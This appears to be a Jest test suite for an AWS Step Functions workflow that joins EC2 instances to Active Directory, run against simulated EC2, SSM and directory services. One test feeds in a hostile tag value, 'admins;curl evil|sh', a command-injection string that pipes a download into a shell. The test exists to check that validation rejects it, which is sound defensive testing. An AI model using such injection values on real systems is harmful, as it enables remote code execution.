/**
 * The join state machine as synthesized by infra/ (the very ASL that is deployed), with the real
 * task handlers, over simulated EC2/SSM and directory on a virtual clock.
 */
import { statePath, timeline, type ExecutionRecord } from '../../engine';
import { AwsRefused, Errors } from '../../tasks/lib/errors';
import { computerName } from '../../tasks/lib/naming';
import { claimKeyOf, expectCleanEnd as expectCleanJoinEnd, oursOf, watchOtps } from './join-ends';
import { definitions, workflowWorld, type WorkflowWorld } from './world';

const ID = 'i-0123456789abcdef0';
const OPT_IN = { 'Domain:Join': 'true' };

const HAPPY_PATH = ['Read instance', 'Opted in?', 'Wait for SSM Online', 'Prepare computer object', 'Linux or Windows?', 'Run join document', 'Record result', 'Done'];

beforeAll(() => {
  definitions(); // synthesize once (CDK synth takes a few seconds)
}, 120_000);

function world(): WorkflowWorld {
  return workflowWorld(['join']);
}

const ours = (w: WorkflowWorld) => oursOf(w, ID);
const KEY = (w: WorkflowWorld): string => claimKeyOf(w, ID);
const expectCleanEnd = (w: WorkflowWorld, run: ExecutionRecord, otps: string[]): void => expectCleanJoinEnd(w, run, otps, ID);

const retriesOf = (run: ExecutionRecord, state: string): number => timeline(run).filter((r) => r.state === state).reduce((n, r) => n + r.retries, 0);

describe('join workflow (synthesized ASL, real tasks, simulated world)', () => {
  test('happy path: joined, tagged, one object with our marker, the expected states in order', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: 90 });
    let otp: string | undefined;
    w.sim.fleet.before('deleteJoinSecret', (id, fleet) => {
      otp = fleet.parameter(`/adjoin/otp/${id}`);
    });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-happy' });

    expect(run.status).toBe('SUCCEEDED');
    const name = computerName(ID, w.sim.settings.naming.prefix, 0);
    expect(run.output).toMatchObject({ outcome: 'joined', instanceId: ID, computerName: name });
    expect(run.output).toHaveProperty('commandId', w.sim.fleet.sentCommands().find((c) => c.request.document === 'join')?.commandId);
    expect(statePath(run)).toEqual(HAPPY_PATH);
    // ONE command joined and verified; the claim says joined; no cleanup.
    expect(w.sim.fleet.sentCommands().map((c) => c.request.document)).toEqual(['join']);
    expect(w.sim.fleet.sentCommands()[0]?.final.stdout).toMatch(/adjoin: verified: .+ resolve/);
    expect(w.sim.claims.item(KEY(w))).toMatchObject({ execution: 'join-happy', status: 'joined', phase: 'joined-verified', computerName: name });
    expect(w.cleanups).toEqual([]);
    const objects = ours(w);
    expect(objects).toHaveLength(1);
    expect(objects[0]).toMatchObject({ name, dn: `CN=${name},${w.sim.settings.directory.computerOu}` });
    expect(w.sim.fleet.instance(ID)?.tags).toMatchObject({
      'adjoin:status': 'joined',
      'adjoin:computer-name': name,
      'adjoin:execution': 'join-happy',
    });
    expect(w.sim.fleet.parameterNames()).toEqual([]);
    // The one-time password went only through the parameter: never in a command or state data.
    expect(otp).toBeDefined();
    const join = w.sim.fleet.sentCommands().find((c) => c.request.document === 'join');
    expect(join?.request.parameters.OneTimePassword).toBe(`{{ssm-secure:/adjoin/otp/${ID}}}`);
    expect(JSON.stringify(run)).not.toContain(otp as string);
    expect(JSON.stringify(w.sim.fleet.sentCommands())).not.toContain(otp as string);
    // SSM came Online 90 s after launch: the state polled until it was.
    expect(retriesOf(run, 'Wait for SSM Online')).toBeGreaterThan(0);
  });

  test('not opted in: skipped, nothing created, nothing tagged', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: { Name: 'web' } });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-skip' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'skipped', instanceId: ID });
    expect(statePath(run)).toEqual(['Read instance', 'Opted in?', 'Skipped', 'Done']);
    expect(w.sim.directory.all()).toEqual([]);
    expect(w.sim.fleet.instance(ID)?.tags).toEqual({ Name: 'web' });
    expect(w.sim.fleet.sentCommands()).toEqual([]);
  });

  test('a hostile login-group tag: fails AT "Read instance" with InvalidInput, nothing done', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: { ...OPT_IN, adGroupName: 'admins;curl evil|sh' } });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-bad-tag' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Read instance');
    expect(run.error).toBe(Errors.InvalidInput);
    expect(run.cause).toMatch(/adGroupName/);
    expect(statePath(run)).toEqual(['Read instance']);
    expect(w.sim.fleet.instance(ID)?.tags).toEqual({ ...OPT_IN, adGroupName: 'admins;curl evil|sh' });
    expect(w.sim.directory.calls).toEqual([]);
  });

  test('SSM never Online: fails AT "Wait for SSM Online" with SsmAgentNotOnline, nothing created; the end is clean', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: Infinity });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-no-ssm' });
    expectCleanEnd(w, run, []);

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Wait for SSM Online');
    expect(run.error).toBe(Errors.SsmAgentNotOnline);
    expect(run.cause).toMatch(/SSM agent/);
    expect(run.cause).toMatch(/AmazonSSMManagedInstanceCore/);
    expect(w.sim.directory.all()).toEqual([]);
    expect(w.sim.directory.calls).toEqual([]);
    // It kept trying until the SSM-online deadline (virtual time), not a moment less.
    const row = timeline(run).find((r) => r.state === 'Wait for SSM Online');
    expect(row?.retries).toBeGreaterThan(5);
    expect(row?.durationMs).toBeGreaterThanOrEqual(w.sim.settings.timings.ssmOnlineDeadlineSeconds * 1000);
  });

  test('join command fails: fails at "Run join document" with JoinCommandFailed and its output; the end is clean', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 3, durationSeconds: 15, stderr: 'adcli: Cannot resolve domain controller: DNS lookup failed' });
    const otps = watchOtps(w);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-cmd-fails' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Run join document');
    expect(run.error).toBe(Errors.JoinCommandFailed);
    expect(run.cause).toContain('Cannot resolve domain controller');
    expect(run.cause).toMatch(/exit code 3/);
    expect(statePath(run).slice(-3)).toEqual(['Prepare computer object', 'Linux or Windows?', 'Run join document']);
    // The state polled the command (in its Lambda, tasks/lib/poll.ts): sent, then still running, then failed.
    const polls = w.sim.fleet.calls.filter((c) => c.op === 'getCommand' && !c.throttled);
    expect(polls.length).toBeGreaterThanOrEqual(2);
    // Before the cleanup, the object's password was the one-time password (the invariant can fail).
    expect(otps).toHaveLength(1);
    expectCleanEnd(w, run, otps);
  });

  test('verification fails: fails at "Run join document" with VerificationFailed (exit 7) and the probe output; the end is clean', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const otps = watchOtps(w);
    // What infra/documents/verify.sh (appended to the join document) prints when a probe user does not resolve.
    w.sim.fleet.script('join', {
      status: 'Failed',
      exitCode: 7,
      stdout: "adjoin: Admin does NOT resolve after 10 attempts\n  id Admin: id: 'Admin': no such user",
      stderr: 'adjoin: FAILED: Admin did not resolve through NSS: check that sssd runs',
    });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-verify-fails' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Run join document');
    expect(run.error).toBe(Errors.VerificationFailed);
    expect(run.cause).toContain('Admin does NOT resolve');
    expect(run.cause).toContain("id Admin: id: 'Admin': no such user");
    expect(run.cause).toContain('check that sssd runs');
    expect(w.sim.fleet.sentCommands()).toHaveLength(1);
    expectCleanEnd(w, run, otps);
  });

  test('join command still running at the command deadline: CommandTimedOut at "Run join document"; the end is clean', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 4, durationSeconds: 100_000 });
    const otps = watchOtps(w);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-cmd-hangs' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Run join document');
    expect(run.error).toBe(Errors.CommandTimedOut);
    expect(otps).toHaveLength(1);
    expect(w.sim.directory.passwordMatches(ours(w)[0]?.name ?? '', otps[0] ?? '')).toBe(false);
    expectCleanEnd(w, run, otps);
  });

  test('"Record result" refused (AwsRefused on CreateTags): fails there; the end is clean, the joined object keeps its rotated password', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.fail('tagInstance', 1, () => new AwsRefused('CreateTags: UnauthorizedOperation (injected)'));
    const otps = watchOtps(w);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-record-refused' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Record result');
    expect(run.error).toBe(Errors.AwsRefused);
    expectCleanEnd(w, run, otps);
    // adcli rotated the password at the join: the cleanup did not reset it (phase joined-verified).
    expect(w.cleanups[0]?.output).toMatchObject({ passwordReset: false });
  });

  test('ABORTED (StopExecution) while the join command runs: the end is clean', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 5, durationSeconds: 300 });
    const otps = watchOtps(w);
    w.sim.fleet.before('getCommand', () => void w.engine.stop('join', 'join-aborted'));

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-aborted' });

    expect(run.status).toBe('ABORTED');
    expect(run.failedState).toBe('Run join document');
    expect(otps).toHaveLength(1);
    expectCleanEnd(w, run, otps);
    expect(w.cleanups[0]?.output).toMatchObject({ passwordReset: true });
  });

  test('TIMED_OUT (the execution deadline passes while the join command runs): the end is clean', async () => {
    // The deployed timeout outlasts every retry budget; a short one here makes the deadline come first.
    const w = workflowWorld(['join'], { patch: (defs) => void ((defs.join as { TimeoutSeconds: number }).TimeoutSeconds = 300) });
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 5, durationSeconds: 100_000 });
    const otps = watchOtps(w);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-timed-out' });

    expect(run.status).toBe('TIMED_OUT');
    expect(run.failedState).toBe('Run join document');
    expect(otps).toHaveLength(1);
    expectCleanEnd(w, run, otps);
    expect(w.cleanups[0]?.output).toMatchObject({ passwordReset: true });
  });

  test('5 duplicate events started at once for one instance: 1 join command, 1 object, 4 in-progress', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const event = w.ec2Event(ID, 'running');

    const runs = await Promise.all([1, 2, 3, 4, 5].map((n) => w.engine.start('join', event, { name: `join-dup5-${n}` })));

    expect(runs.map((r) => r.status)).toEqual(Array(5).fill('SUCCEEDED'));
    const outcomes = runs.map((r) => (r.output as { outcome?: string }).outcome).sort();
    expect(outcomes).toEqual(['in-progress', 'in-progress', 'in-progress', 'in-progress', 'joined']);
    expect(w.sim.fleet.sentCommands()).toHaveLength(1);
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('a failed join stops blocking: after the cleanup, a new execution for the instance joins it', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 3, stderr: 'adcli: Cannot resolve domain controller' });
    const failed = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-blocked-1' });
    expect(failed.status).toBe('FAILED');

    const again = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-blocked-2' });

    expect(again.output).toMatchObject({ outcome: 'joined' });
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.claims.item(KEY(w))).toMatchObject({ execution: 'join-blocked-2', status: 'joined' });
  });

  test('duplicate event: the second execution finds it already joined; still exactly one object', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const event = w.ec2Event(ID, 'running');

    const first = await w.engine.start('join', event, { name: 'join-dup-1' });
    const second = await w.engine.start('join', event, { name: 'join-dup-2' });

    expect(first.status).toBe('SUCCEEDED');
    expect(second.status).toBe('SUCCEEDED');
    expect(second.output).toMatchObject({ outcome: 'already-joined', instanceId: ID });
    expect(statePath(second)).toEqual(['Read instance', 'Opted in?', 'Already joined', 'Done']);
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.fleet.sentCommands().filter((c) => c.request.document === 'join')).toHaveLength(1);
  });

  test('duplicate events racing (two executions at once): both end well, one object, the instance joined', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const event = w.ec2Event(ID, 'running');

    const runs = await Promise.all([
      w.engine.start('join', event, { name: 'join-race-1' }),
      w.engine.start('join', event, { name: 'join-race-2' }),
    ]);

    expect(runs.map((r) => r.status)).toEqual(['SUCCEEDED', 'SUCCEEDED']);
    const outcomes = runs.map((r) => (r.output as { outcome?: string }).outcome);
    expect(outcomes).toContain('joined');
    expect(outcomes.every((o) => o === 'joined' || o === 'in-progress' || o === 'already-joined')).toBe(true);
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.fleet.instance(ID)?.tags['adjoin:status']).toBe('joined');
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('name collision: a foreign object holds the first name, the second is used, the foreign one is untouched', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const first = computerName(ID, w.sim.settings.naming.prefix, 0);
    const second = computerName(ID, w.sim.settings.naming.prefix, 1);
    const foreign = w.sim.directory.holdName(first);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-collision' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'joined', computerName: second });
    expect(ours(w).map((o) => o.name)).toEqual([second]);
    expect(w.sim.directory.get(foreign.dn)).toEqual(foreign);
  });

  test('instance terminated mid-join: compensation removes the object and the secret, outcome abandoned', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.before('getCommand', () => w.sim.fleet.terminate(ID)); // gone while the join runs

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-terminated' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'abandoned', instanceId: ID });
    expect(statePath(run).slice(-4)).toEqual(['Run join document', 'Remove what the join made', 'Join abandoned', 'Done']);
    const caught = run.events.find((e) => e.type === 'StateCaught');
    expect(caught).toMatchObject({ state: 'Run join document', catch: { errorEquals: [Errors.InstanceGone], next: 'Remove what the join made' } });
    expect(ours(w)).toEqual([]);
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('directory down, then back: retried (visible in the event log) and joined', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.directory.down(3);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-dir-down' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'joined' });
    const failures = run.events.filter((e) => e.type === 'StateFailed' && e.state === 'Prepare computer object');
    const retries = run.events.filter((e) => e.type === 'StateRetried' && e.state === 'Prepare computer object');
    expect(failures.map((e) => e.error)).toEqual([Errors.DirectoryUnavailable, Errors.DirectoryUnavailable, Errors.DirectoryUnavailable]);
    expect(retries).toHaveLength(3);
    // TransientErrors policy: 5 s, x2 (no jitter in virtual time) → 5, 10, 20 s.
    expect(retries.map((e) => e.retry?.delaySeconds)).toEqual([5, 10, 20]);
    expect(retries[0]?.retry?.errorEquals).toContain(Errors.DirectoryUnavailable);
    expect(ours(w)).toHaveLength(1);
  });

  test('redrive after the join command failed: resumes AT "Run join document", sends anew, completes', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 3, stderr: 'adcli: Cannot resolve domain controller' });
    const otps = watchOtps(w);
    const failed = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-redrive' });
    expect(failed.status).toBe('FAILED');
    expect(failed.failedState).toBe('Run join document');
    expectCleanEnd(w, failed, otps); // the cleanup revoked the one-time password and marked the claim failed

    // The operator fixes DNS (the next join command succeeds), an hour later.
    w.sim.clock.advance(3600);
    const run = await w.engine.redrive(failed);

    expect(run.status).toBe('SUCCEEDED');
    expect(run.name).toBe('join-redrive');
    expect(run.redriveCount).toBe(1);
    expect(run.redrives).toEqual([expect.objectContaining({ redriveCount: 1, fromState: 'Run join document' })]);
    expect(statePath(run, { part: 1 })[0]).toBe('Run join document');
    expect(statePath(run, { part: 0 })).toEqual(statePath(failed));
    expect(run.output).toMatchObject({ outcome: 'joined' });
    expect(w.sim.fleet.sentCommands().filter((c) => c.request.document === 'join')).toHaveLength(2);
    expect(ours(w)).toHaveLength(1);
    // The redrive re-took the claim and sent with a FRESH one-time password (the first was revoked).
    expect(otps).toHaveLength(2);
    expect(otps[1]).not.toBe(otps[0]);
    expect(w.sim.claims.item(KEY(w))).toMatchObject({ execution: 'join-redrive', status: 'joined', round: 1 });
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('redrive after SSM never came Online: resumes AT "Wait for SSM Online" once the agent is fixed', async () => {
    const w = world();
    const inst = w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: Infinity });
    const failed = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-redrive-ssm' });
    expect(failed.failedState).toBe('Wait for SSM Online');

    inst.ssmOnlineAfterSeconds = 0; // the operator attached the instance profile
    const run = await w.engine.redrive(failed);

    expect(run.status).toBe('SUCCEEDED');
    expect(statePath(run, { part: 1 })[0]).toBe('Wait for SSM Online');
    expect(statePath(run, { part: 1 })).not.toContain('Read instance');
    expect(run.events.some((e) => e.type === 'ExecutionRedriven' && e.state === 'Wait for SSM Online')).toBe(true);
    expect(ours(w)).toHaveLength(1);
  });
});
